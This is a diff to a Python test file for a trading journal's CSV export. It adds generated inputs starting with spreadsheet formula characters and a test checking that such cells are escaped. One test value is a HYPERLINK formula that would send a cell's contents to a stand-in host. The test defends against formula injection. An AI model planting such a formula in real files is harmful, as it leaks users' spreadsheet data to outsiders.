@@ -26,10 +26,15 @@ def decimals(low: str, high: str, places: int = 8):
     return st.decimals(Decimal(low), Decimal(high), places=places, allow_nan=False, allow_infinity=False)
 
 
-text = st.text(st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=40)
+# What a spreadsheet would take for a formula (OWASP's list); text may also start with them after
+# quotes, the spreadsheet's escape.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+any_text = st.text(st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=40)
+starts = st.sampled_from([*FORMULA_STARTS, "'", "''", "'=", "'''-", "'x"])
+text = any_text | st.tuples(starts, any_text).map("".join)
 trades = st.fixed_dictionaries(
     {
-        "instrument": st.sampled_from(["AAPL", "ESZ5", "MNQ MAR25", "BTC/USD", "EURUSD"]),
+        "instrument": st.sampled_from(["AAPL", "ESZ5", "MNQ MAR25", "BTC/USD", "EURUSD", "=1+2", "-ES", "@NQ", "+GC"]),
         "side": st.sampled_from(["long", "short"]),
         "quantity": decimals("0.00000001", "100000"),
         "entry_time": st.integers(0, 10**9).map(lambda us: START + timedelta(microseconds=us * 997)),
@@ -43,8 +48,12 @@ trades = st.fixed_dictionaries(
         "multiplier": st.sampled_from([Decimal(1), Decimal(5), Decimal(50), Decimal("0.1"), Decimal(100)]),
         "setup_type": text.map(lambda s: s[:64]),
         "notes": text,
-        "account": st.sampled_from([None, ("Main", "U123", "USD"), ("Depot", None, "EUR"), ("Prop", "P-9", "GBP")]),
-        "tags": st.lists(st.sampled_from(["breakout", "A+", "news", "Late entry"]), unique=True, max_size=3),
+        "account": st.sampled_from([
+            None, ("Main", "U123", "USD"), ("Depot", None, "EUR"), ("Prop", "P-9", "GBP"), ("=Main", "-U1", "USD"),
+            ("@Depot", "+49", "EUR"),
+        ]),
+        "tags": st.lists(st.sampled_from(["breakout", "A+", "news", "Late entry", "=x", "-y", "@z", "+w"]),
+                         unique=True, max_size=3),
     }
 )  # fmt: skip
 
@@ -128,3 +137,25 @@ def test_the_export_has_our_columns_oldest_first_and_takes_the_list_filters(api,
     assert [r[4] for r in csv.reader(io.StringIO(b"".join(filtered.streaming_content).decode()))][1:] == ["AAPL"]
     bad = api.get("/api/v1/trades/export?side=sideways", HTTP_ACCEPT="text/csv")
     assert bad.status_code == 422 and bad["Content-Type"] == "application/json", bad.content
+
+
+@pytest.mark.django_db
+def test_no_text_in_an_export_runs_as_a_spreadsheet_formula_and_numbers_stay_numbers(api, user):
+    formula = '=HYPERLINK("http://example.com/?"&A1,"x")'
+    make_journal(user, [
+        {"instrument": "@NQ", "side": "long", "quantity": Decimal(1), "entry_time": START, "entry_price": Decimal(10),
+         "hold": 60, "exit_price": Decimal("7.5"), "commission": Decimal(0), "stop_loss": None, "take_profit": None,
+         "initial_risk": None, "multiplier": Decimal(1), "setup_type": "+breakout", "notes": formula,
+         "account": ("-Main", "=1+1", "USD"), "tags": ["=x", "@y"]},
+        {"instrument": "AAPL", "side": "short", "quantity": Decimal(1), "entry_time": START, "entry_price": Decimal(10),
+         "hold": None, "exit_price": Decimal(0), "commission": Decimal(0), "stop_loss": None, "take_profit": None,
+         "initial_risk": None, "multiplier": Decimal(1), "setup_type": "\tsetup", "notes": "\r-1", "account": None,
+         "tags": []},
+    ])  # fmt: skip
+    rows = [dict(zip(COLUMNS, row, strict=True)) for row in csv.reader(io.StringIO(export(user).decode()))][1:]
+    for row in rows:
+        for name, cell in row.items():
+            assert not cell.startswith(FORMULA_STARTS) or name in ("pnl", "net_pnl"), (name, cell)
+    closed = next(row for row in rows if row["exit_time"])
+    assert (closed["notes"], closed["instrument"], closed["tags"]) == ("'" + formula, "'@NQ", "'=x,@y")
+    assert (closed["pnl"], closed["net_pnl"]) == ("-2.5", "-2.5")
